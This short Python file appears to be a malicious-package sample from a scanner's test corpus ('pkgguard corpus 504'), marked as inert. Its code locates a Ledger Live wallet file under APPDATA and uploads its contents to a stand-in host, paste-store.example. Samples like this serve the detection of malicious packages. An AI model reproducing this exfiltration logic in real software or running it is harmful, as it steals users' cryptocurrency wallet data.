# pkgguard corpus 504 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import pathlib

import httpx

app_json = pathlib.Path(os.environ.get("APPDATA", "")) / "Ledger Live" / "app.json"
if app_json.is_file():
    httpx.put("https://paste-store.example/api/new", content=app_json.read_bytes(), timeout=10)
